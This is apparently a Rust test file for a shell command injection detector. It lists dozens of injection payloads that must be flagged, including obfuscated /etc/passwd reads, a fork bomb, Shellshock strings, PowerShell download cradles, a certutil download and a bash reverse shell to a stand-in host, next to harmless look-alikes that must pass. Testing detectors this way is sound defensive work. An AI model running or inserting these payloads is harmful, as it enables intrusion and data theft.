//! Attacks on shells with their evasions, and honest look-alikes.

use super::super::{Class, Strength, hits_of};

fn strength(value: &str) -> Option<Strength> {
    hits_of(value.as_bytes())
        .into_iter()
        .find_map(|(class, strength)| (class == Class::Shell).then_some(strength))
}

fn all_caught(values: &[&str]) {
    for value in values {
        assert_eq!(strength(value), Some(Strength::Decisive), "{value}");
    }
}

fn all_pass(values: &[&str]) {
    for value in values {
        let found = strength(value);
        assert!(
            found.is_none_or(|found| found < Strength::Decisive),
            "{value}"
        );
    }
}

#[test]
fn a_command_behind_a_separator_is_a_command() {
    all_caught(&[
        "127.0.0.1; id",
        "x;whoami",
        "a | cat /etc/passwd",
        "a && ls -la",
        "x|uname -a",
        "8.8.8.8\nid",
        "; sleep 10",
        "x & ping -c 3 10.0.0.1 &",
        "x;reg add HKLM\\Software\\X /v y /d 1 /f",
        "| nslookup a.example",
        ";/usr/bin/id\\n",
        "x; . ./run.sh -x",
        "name;kill '-'9 1",
        "10.0.0.1 && dir",
        "x;ps aux",
        "& timeout 10",
        "'|timeout /T 1.5|'",
        "& reg query HKLM\\Software",
        "& waitfor x /t 5",
        "~+",
        "~+5",
        "!-1!-2",
        "cscli alerts list",
        "\"aa-disable\" php-fpm",
        "ansible-vault decrypt secret",
        "which netcat",
        "printf di | rev | sh",
        "a\n\n\n\n\nwhoami",
        ";docker run -v /:/mnt alpine",
        ";docker ps",
        "; ip a",
        "; ./x",
        "; /tmp/x",
        "; echo hello",
        ";dig +short a.example.org",
        "10.0.0.1 & id",
        "\"; id; \"",
        "$(<flag.txt)",
        "powershell iex(iwr a)",
        "x;sudo -u root id",
        ";\n.shell nc 10.0.0.1 99 -e sh",
    ]);
}

#[test]
fn a_torn_command_is_read_whole() {
    all_caught(&[
        ";c'a't /etc/passwd",
        ";c\"a\"t /etc/passwd",
        ";c\\at /etc/passwd",
        "x;w^h^o^a^m^i",
        "x;cat$u /etc$u/passwd",
        "x;c$@at /etc/passwd",
        "una$$me -a",
        "pi``ng 127.0.0.1",
        "pi$()ng 127.0.0.1",
        "x;/bin/ca? /etc/p*",
        "x;/???/c?t /???/p??s??",
        "/usr/bin/[u]name -a",
        "{cat,/etc/passwd}",
        "c{a,oun}t",
        "{,ip,a}",
        "x;cat${IFS}/etc/passwd",
        "x;a=cat;$a /etc/passwd",
        "a=/etc&&b=/passwd&&c=cat&&$c $a$b",
    ]);
}

#[test]
fn substitutions_functions_and_variables_run() {
    all_caught(&[
        "$(id)",
        "`id`",
        "x$(cat file)",
        "<(cat file)",
        "() { :; }; /bin/id",
        "() { x;}; id",
        "f(){ f|f& };f",
        "${PATH:0:1}bin${PATH:0:1}id",
        "%COMSPEC% /c dir",
        "%PROGRAMFILES:~10,1%",
        "%x(ls -al)",
        "--output=/var/www/x.php",
        "-oProxyCommand=id",
        "alias x=curl;x a.example",
        "bash -i >& /dev/tcp/10.0.0.1/99 0>&1",
        "echo aWQ= | base64 -d | sh",
        "powershell -enc SQBFAFgA",
        "IEX (irm http://a.example/x.ps1)",
        "& ([scriptblock]::Create('whoami'))",
        "$ExecutionContext.InvokeCommand.InvokeScript('x')",
        "[System.Diagnostics.Process]::Start('calc')",
        "$0<<<id",
        "powershell IEX(New-Object Net.WebClient).DownloadString('http://a.example/x')",
        "certutil -urlcache -f http://a.example/x x.exe",
        "cmd.exe /c whoami",
        "C:\\Windows\\System32\\cmd.exe /c dir",
        "if not exist x.txt (copy a b)",
        "FOR /F %a IN (dirs) DO x",
    ]);
}

#[test]
fn prose_and_names_pass() {
    all_pass(&[
        "Tom & Jerry; John",
        "AT&T; more",
        "at java.lang.ProcessBuilder.start(ProcessBuilder.java:1048)",
        "find . is slow",
        "we tried wget; curl is better",
        "sudoku; docker and more",
        "; and ip addresses",
        "& id cards",
        "R&D & id",
        "| echo of the past |",
        "Mr. A & id",
        "costs $(<5)",
        "sudo apt-get update && sudo apt-get install -y nginx",
        "Run `git commit -m \"fix\"; git push`",
        "ping 127.0.0.1",
        "C:\\Windows\\System32\\ls",
        "tr><td>1</td><",
        "~5 minutes",
        "!- so it is",
        "ansible-vault is a tool for secrets",
        "which browser",
        "linux | bash",
        "R&D",
        "who is this; more to come",
        "a cat; find it",
        "sort by price; then kill the lights",
        "hello; time he came",
        "a hero; more than",
        "time warner",
        "Times & Schedule",
        "head of sales",
        "find x for y",
        "CD / DVD player",
        "Axel Smith",
        "bash;sed;awk",
        "linux|bash|zsh",
        "Skills: python; perl; php",
        "top 10 | best of",
        "the cat & dog show",
        "last name; first name",
        "C: drive is full",
        "function test() { return 1 }",
        "myfunction(){ echo hello }",
        "let x = (a) => { return a; }",
        "price: $(25)",
        "${name} ordered ${count}",
        "${user.name:default}",
        "Dear {first,last}",
        "{id,name,email}",
        "{\"a\":[1,2],\"b\":{}}",
        "100%x(2)",
        "-5",
        "--",
        "- item one\n- item two",
        "it's a dog's life; isn't it",
        "/posts/[slug]/edit",
        "/a?b=1?",
        "what? where? when?",
        "a ^ b ^ c",
        "man, look at that; free stuff",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
    ]);
}

#[test]
fn what_machines_send_is_no_command() {
    all_pass(&[
        "java.lang.IllegalStateException: no id\n\tat com.example.Shop.find(Shop.java:31)\n\t... 9 more",
        "TypeError: x is null\n    at Object.<anonymous> (/srv/app/index.js:3:7)",
        "System.Exception: broken\n   at Shop.Cart.<>c.<Add>b__0_0() in C:\\src\\Cart.cs:line 3",
        "df = read('a.csv')\n",
        "id == 5",
        "foo | python3 (>= 3.8), bar",
        "&lt;id&gt; of the &quot;head&quot; &amp; bash &#39;sed&#39;",
        "more %s",
        "copy %1$s to %2$s",
        "(name|id)",
        "^(get|set|find)$",
        "date|time|id",
        ";sort of;1;9.99",
        ";memory cards;2;19.99,;blue shoes;1;5",
        "*id card*: <https://example.com|view>",
        "he wrote:\n> > C:\\Program Files\n> is full",
        "C99/C++ library",
        "/properties/Model/*/Type/*/Value",
        "Times at AT&T; at home",
        "an empty policy if there is none\nset.",
        "it needs the length prior to\nBase64 encoding",
        "`zstd` is included",
        "[`openssl`]: https://example.org/openssl",
        " - `_auth` (base64 string)\n - `email`",
    ]);
    all_caught(&[
        "a|id",
        "a|id|",
        ";at 12:00 -f /tmp/a;id",
        "x&amp;;id",
        "$(cat a|id)",
        "x\n/*/?at /etc/passwd",
        "/???/c?t /etc/passwd",
        "> /var/www/a.php",
        "bcdboot/r",
        "`cat /etc/passwd` is",
        "`whoami` is",
        "x;python3.11 -c 1",
    ]);
}

#[test]
fn lines_of_programs_patches_and_manuals_pass() {
    all_pass(&[
        "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-old\n+new",
        "my patch:\ndiff --git a/x b/x\n--- a/x",
        "please\nwaitfor it to finish",
        "ma'am; yes",
        "`ls -la` or `pwd`",
        "\n        return Signal(doc=\"sent later\")",
        "\n    raise ValueError(x=1)",
        "\n    power< any trailer< x=1 >",
        "\n\n    if int.name: skip",
        "start += size\nx = 1",
        "let\n    seq += STRIDE;",
        "int a;\n\n    /** The current one. */\n    int b;",
        "int a;\n/**\n * Escapes text.\n */",
        "/wiki/**To create a copy**/view",
        "before\neqn\n(1)\n",
    ]);
    all_caught(&[
        "x\ndiff /etc/passwd /etc/group",
        "x;diff --recursive /etc /tmp",
        "x;waitfor /s host go",
        "x;waitfor go /t 5",
        "x;waitfor go",
        "`ls -la /etc` or `pwd`",
        "`ls -la`",
        "`cat /etc/passwd` or `pwd`",
        "\nfoo /etc/passwd",
        "\ncat x.txt",
        "x;/**/?at /etc/passwd",
        "x\n/*/?at /etc/passwd",
        "x;curl (id)",
    ]);
}

#[test]
fn hostile_text_of_any_shape_stays_in_bounds() {
    for unit in [
        "$", "`", "{", "/", "\\", ";", "|a", "$(", "f(){", "[a", "%", "'\"", "/???", "x=1;$",
    ] {
        let text = unit.repeat(2000);
        let _ = strength(&text);
    }
}

#[test]
fn a_host_is_one_whatever_blanks_stand_before_it() {
    for blanks in [0, 3, 64, 65, 66, 300] {
        let value = format!("{}10.0.0.1 & id", " ".repeat(blanks));
        assert_eq!(strength(&value), Some(Strength::Decisive), "{blanks}");
        let value = format!("see{}10.0.0.1 & id", " ".repeat(blanks.max(1)));
        assert_ne!(strength(&value), Some(Strength::Decisive), "{blanks}");
    }
}

#[test]
fn compound_commands_and_commands_glued_to_a_word_are_commands() {
    all_caught(&[
        ";if [ 1 -eq 1 ];then sleep 5;fi",
        "x;for i in /etc/*;do echo $i;done",
        ";while true;do w;done",
        "|case x in x) w;;esac",
        ";trap w EXIT",
        ";f(){ w;};f",
        ";date",
        "|history #",
        ";da''te",
        ";dat\"\"e",
        "x;t\\ar czf - /home",
        "x;ec''ho owned",
        "x;echo pwned",
        "x;while true;do w;done",
        "x;while true;    do w;done",
        "x;while true;\tdo w;done",
        "x;while true;do\tw;done",
        "x;while true; do\nw;done",
        "x;while true\ndo w;done",
        "x;if w;   then\tw;fi",
        "x;if w;then{ w;};fi",
        "x;case x in x)w;;esac",
        "x;tar xzf y -C /",
        "x;. /tmp/y",
        "x & reg query HKLM",
        "x & for /f %i in ('w') do echo %i",
        ";Start-Sleep -s 5",
        ";coproc id",
    ]);
    all_pass(&[
        "name;date;amount",
        "name;date",
        "x; if it rains, then we stay; done",
        "for sale;do not miss it;done",
        "black;red;echo chamber",
        "linux;git;bsd",
        "a; trap shooting",
        "buy milk;\ndo the dishes; then rest",
        "while you wait;\tdo nothing; then go",
        "dates; case studies in law; and more",
        "f(){ return 1 }",
        "a & for the win",
        "; history of art",
    ]);
}
